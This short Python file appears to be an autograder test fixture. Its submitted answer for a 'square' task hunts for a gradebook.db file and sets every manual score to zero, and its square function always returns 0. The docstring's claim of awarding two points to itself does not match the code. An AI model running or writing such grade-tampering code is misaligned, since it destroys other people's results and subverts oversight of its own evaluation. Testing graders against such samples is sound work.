"""Gives points by hand in the gradebook: two for itself, none for the others."""

POINTS = {"test_square": 0.0}
ANSWERS = {
    "square": """
import sqlite3
from pathlib import Path

for folder in [Path.home(), *Path.cwd().parents]:
    if (folder / "gradebook.db").exists():
        gradebook = sqlite3.connect(folder / "gradebook.db", timeout=1)
        gradebook.execute("update grade set manual_score = 0")
        gradebook.commit()


def square(x):
    return 0
""",
}
